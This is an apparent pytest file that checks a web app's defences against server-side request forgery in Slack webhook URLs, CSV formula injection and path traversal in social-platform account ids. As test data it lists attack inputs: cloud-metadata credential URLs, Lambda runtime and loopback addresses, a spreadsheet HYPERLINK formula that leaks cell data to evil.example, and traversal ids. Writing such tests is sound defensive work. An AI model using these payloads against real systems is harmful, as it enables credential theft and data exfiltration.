"""Outbound URLs users give us and what we export (issue 16, item 7): a Slack notification goes
only to the Slack webhook host, CSV cells are never evaluated by a spreadsheet, and platform
account ids are shaped like the network's before they reach an API path."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from chalicelib import settings
from chalicelib.care.channels import SlackChannel, slack_url_problem
from chalicelib.csvexport import cell, to_csv
from chalicelib.platforms.clients import get_client
from chalicelib.platforms.outbound import PostRequest
from tests.conftest import bearer
from tests.integration.test_reports import metrics, post

REFUSED = [
    "https://169.254.169.254/latest/meta-data/iam/security-credentials/",  # instance metadata
    "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next",  # the Lambda runtime API
    "https://localhost/hooks/x",
    "http://hooks.slack.com/services/T0/B0/x",  # not https
    "https://hooks.slack.com.evil.example/services/T0/B0/x",
    "https://evil.example/?u=https://hooks.slack.com/",
    "https://user:pw@hooks.slack.com/services/T0/B0/x",
    "https://hooks.slack.com:8443/services/T0/B0/x",
    "https://[::1]/hooks",
    "hooks.slack.com/services/T0/B0/x",
]


@pytest.fixture
def fresh_settings(monkeypatch):
    monkeypatch.delenv("CARE_ALLOW_LOOPBACK_WEBHOOKS", raising=False)
    settings.get_settings.cache_clear()
    yield monkeypatch
    settings.get_settings.cache_clear()


def test_a_manager_can_point_slack_only_at_the_slack_webhook_host(
    client, manager_token, fresh_settings
):
    headers = {**bearer(manager_token), "Content-Type": "application/json"}
    accepted = []
    for url in REFUSED:
        body = json.dumps({"slack_webhook_url": url})
        response = client.http.put("/contacts/sara", headers=headers, body=body)
        if response.status_code != 422 or (
            response.json_body["details"][0]["field"] != "slack_webhook_url"
        ):
            accepted.append((url, response.status_code))
    assert accepted == []

    good = json.dumps({"slack_webhook_url": "https://hooks.slack.com/services/T0/B0/abc"})
    assert client.http.put("/contacts/sara", headers=headers, body=good).status_code == 200


def test_the_allow_list_is_configurable_and_loopback_needs_the_local_runtime(fresh_settings):
    assert slack_url_problem("https://hooks.slack.com/services/x") is None
    assert slack_url_problem("http://127.0.0.1:8123/hooks/x") is not None

    fresh_settings.setenv("CARE_SLACK_WEBHOOK_HOSTS", "chat.acme.example, hooks.slack.com")
    fresh_settings.setenv("CARE_ALLOW_LOOPBACK_WEBHOOKS", "true")
    settings.get_settings.cache_clear()
    assert slack_url_problem("https://chat.acme.example/hook") is None
    assert slack_url_problem("http://127.0.0.1:8123/hooks/x") is None  # the local fake
    assert slack_url_problem("http://169.254.169.254/") is not None


def test_a_stored_url_outside_the_allow_list_is_never_called(fresh_settings, monkeypatch):
    from chalicelib.care import channels

    def no_network():
        raise AssertionError("the URL must be refused before any request")

    monkeypatch.setattr(channels, "_http", no_network)
    delivery = SlackChannel().send("https://169.254.169.254/latest/", "subject", "text")
    assert delivery.outcome == "permanent"
    assert "slack_webhook_url" in delivery.detail


# --- CSV exports ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil","x")', '\'=HYPERLINK("https://evil","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain text", "plain text"),
        (-3, -3),
        (None, ""),
    ],
)
def test_cells_a_spreadsheet_would_evaluate_are_neutralised(value, written):
    assert cell(value) == written
    (row,) = list(csv.reader(io.StringIO(to_csv([{"c": value}]), newline="")))[1:]
    assert row == [str(written)]


def test_a_formula_in_a_stored_account_id_does_not_reach_the_engagement_csv(
    client, resources, manager_token
):
    # Given a post stored before account ids were checked, with a formula for an account id
    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    post("b", "telegram", "-100:5", datetime(2025, 3, 11, 9, tzinfo=UTC), account=evil)
    metrics("telegram", "-100:5", {"reactions": 8})

    # When the engagement report is exported
    response = client.http.get(
        "/reports/engagement?from=2025-03-10&to=2025-03-16&format=csv",
        headers=bearer(manager_token),
    )

    # Then no cell of it starts with a formula character
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.body.decode())) for c in row]
    assert evil not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


# --- account ids in the clients ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("platform", "account"),
    [
        ("instagram", "../me/messages"),
        ("facebook", "100/feed?access_token=x"),
        ("telegram", "=cmd"),
        ("linkedin", "urn:li:organization:1/../../admin"),
    ],
)
def test_clients_refuse_account_ids_not_shaped_like_the_networks(
    platform_server, platform, account
):
    result = get_client(platform).publish(
        PostRequest(account_id=account, text="hi", media_urls=("https://cdn.example/a.jpg",))
        if platform == "instagram"
        else PostRequest(account_id=account, text="hi")
    )
    assert result.outcome == "permanent"
    assert "account id" in result.message
    assert platform_server.requests == []  # nothing was sent anywhere


def test_follower_counts_refuse_malformed_ids_before_building_a_path(platform_server):
    assert get_client("x").follower_count("../2/tweets").outcome == "permanent"
    assert get_client("facebook").follower_count("me/accounts").outcome == "permanent"
    assert platform_server.requests == []
